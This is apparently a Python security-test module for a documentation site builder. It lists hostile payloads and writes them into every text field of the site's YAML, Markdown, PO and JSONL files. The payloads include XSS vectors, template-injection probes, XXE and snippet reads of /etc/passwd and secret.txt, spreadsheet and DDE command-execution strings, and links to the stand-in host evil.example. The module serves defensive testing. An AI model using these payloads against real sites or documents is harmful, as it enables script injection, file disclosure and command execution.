"""What people who mean harm write where words are expected, and every place of a publication where words stand.

Each payload, if it ever becomes markup, calls ``alert``, asks another host, or leaves one of the two marks that are looked
for in everything that is made: the product of two numbers (a template that ran) and a line of a file (one that was read).
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

PRODUCT = ("{{ 1234567 * 7 }}", "8641969")
CANARY = "canary-of-a-file-that-nobody-may-read"
HIDDEN = "secret.txt"

TAGS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "'\"><script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)", '" onfocus="alert(1)" autofocus="',
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>", "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style>",
    "<a href=java&#115;cript:alert(1)>x</a>", "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->", "<![CDATA[><script>alert(1)</script>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<x onclick=alert(1)>x</x>", "<p markdown=1 onclick=alert(1)>**x**</p>", "<scr\u200bipt>alert(1)</script>",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\u0000script:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))", "[x](https://evil.example/)", "![x](https://evil.example/x.png)", "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](home.md)', '[x](home.md "x\\" onclick=\\"alert(1)")', "<javascript:alert(1)>", "[x]: javascript:alert(1)",
    "x{: onclick=alert(1) }", '**x**{: onmouseover="alert(1)" style="background:url(https://evil.example/)" }',
    "*x*{: #__config .md-x data-md-component=search }", "*[x]: <script>alert(1)</script>", "[^1]\n[^1]: <script>alert(1)</script>",
    '--8<-- "secret.txt"', "-8<- secret.txt", "```{ onclick=alert(1) }\nx\n```", '!!! note "<script>alert(1)</script>"',
    '=== "<img src=x onerror=alert(1)>"', "https://evil.example/<script>", "[[javascript:alert(1)]]", ":evil: {{evil}}",
    "`x`{: onclick=alert(1)}", '[x](term:"onclick=alert(1))', '[x](term:council" onclick="alert(1))',
)  # fmt: skip
TEMPLATES = (
    PRODUCT[0], "{%% include 'secret.txt' %%}".replace("%%", "%"), "{{ config.hooks }}", "{{ ''.__class__.__mro__ }}", "{# x #}",
    "${1234567*7}", "#{1234567*7}", "<%= 1234567*7 %>", "{{{ 1234567 * 7 }}}", "{{ '<script>alert(1)</script>'|safe }}",
    "{org.evil.phone}", "{{", "}}", "{%", "%}",
)  # fmt: skip
OTHERS = (
    "\\href{javascript:alert(1)}{x}", "\\input{secret.txt}", '=HYPERLINK("https://evil.example","x")', "=cmd|' /C calc'!A0",
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", "<w:instrText>DDEAUTO x</w:instrText>", "<speak><audio src='https://evil.example/x'/></speak>",
    "file:///etc/passwd", "<link rel=attachment href=file:///etc/passwd>", "%PDF-1.4 /OpenAction << /S /JavaScript >>",
    "]]></w:t><w:altChunk r:id='x'/>", "&xxe;", "<!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>",
)  # fmt: skip
PAYLOADS = (*TAGS, *MARKDOWN, *TEMPLATES, *OTHERS)

_YAML = re.compile(r"^(?P<head>\s*(?:- )?(?P<key>[\w.-]+):[ ]+)(?P<value>\S.*)$")
_WORDS = frozenset(
    ["title", "summary", "name", "english", "term", "meaning", "what_for", "hours", "cost", "languages", "place", "publisher", "alt", "text", "note", "author", "licence", "contact", "address", "web", "email", "phone", "textphone", "value", "seen", "organisation", "gloss"]
)  # fmt: skip
"""Keys whose values are words, numbers or addresses; ids, dates and choices are refused by their form."""
_MSGSTR = re.compile(r'^msgstr "(?P<value>.+)"$')


@dataclass(frozen=True)
class Place:
    """A line of a file where words stand; ``line`` counts from 1."""

    path: str
    line: int
    form: str
    key: str = ""


def places(root: Path) -> list[Place]:
    """Every place of the publication, in order."""
    found: list[Place] = []
    for file in sorted(
        one for name in ("content", "locales") for one in (root / name).rglob("*") if one.is_file()
    ):
        path = file.relative_to(root).as_posix()
        form = {".yml": "yaml", ".md": "page", ".po": "po", ".jsonl": "note"}.get(file.suffix, "")
        if not form or "_templates" in path:
            continue
        inside = False
        for number, line in enumerate(file.read_text("utf-8").splitlines(), start=1):
            inside = not inside if form == "page" and line == "---" else inside
            here = "yaml" if inside else form
            key = _YAML.match(line)
            words = key if key and key["key"] in _WORDS else None
            fits = {"yaml": words, "po": _MSGSTR.match(line), "page": line.strip(), "note": line}[here]
            if fits and line != "---":
                found.append(Place(path, number, here, key["key"] if words and here == "yaml" else ""))
    return found


def hostile(line: str, form: str, payload: str) -> str:
    """The line with the payload behind its words."""
    if form == "yaml":
        match = _YAML.match(line)
        assert match
        return match["head"] + json.dumps(f"{match['value'].strip(chr(34))} {payload}", ensure_ascii=False)
    if form == "po":
        inner = json.dumps(f" {payload}", ensure_ascii=False)[1:-1]
        return line[:-1] + inner + '"'
    if form == "note":
        held = json.loads(line)
        return json.dumps({**held, "note": f"{held.get('note', '')} {payload}"}, ensure_ascii=False)
    return f"{line} {payload}"


def put(root: Path, chosen: dict[Place, str]) -> None:
    """Write the payloads into their places."""
    by_file: dict[str, list[tuple[Place, str]]] = {}
    for place, payload in chosen.items():
        by_file.setdefault(place.path, []).append((place, payload))
    for path, held in by_file.items():
        lines = (root / path).read_text("utf-8").splitlines()
        for place, payload in held:
            lines[place.line - 1] = hostile(lines[place.line - 1], place.form, payload)
        (root / path).write_text("\n".join(lines) + "\n", "utf-8")
